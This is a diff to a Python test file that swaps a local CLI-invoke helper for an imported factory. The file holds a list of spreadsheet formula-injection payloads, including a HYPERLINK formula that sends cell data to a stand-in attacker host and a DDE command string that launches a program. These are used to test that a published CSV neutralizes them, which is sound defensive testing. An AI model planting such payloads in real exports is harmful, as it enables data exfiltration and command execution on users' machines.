@@ -11,7 +11,7 @@ import re
 
 from click.testing import CliRunner
 from cycle_factories import profiles_project, survey
-from factories import make_profile, minimal_themes
+from factories import make_profile, minimal_themes, run_cli
 from signoff_factories import write_signoff
 from test_publish import build_site
 
@@ -20,19 +20,7 @@ from pipeline.cli import cli
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
 
 
-def invoke(project, *args: str):
-    return CliRunner().invoke(
-        cli,
-        [
-            "--raw",
-            str(project.raw),
-            "--build",
-            str(project.build),
-            "--themes",
-            str(project.themes_file),
-            *args,
-        ],
-    )
+invoke = run_cli  # osaaja … on the project, through CliRunner
 
 
 def test_formula_payloads_are_inert_in_the_published_csv(tmp_path):
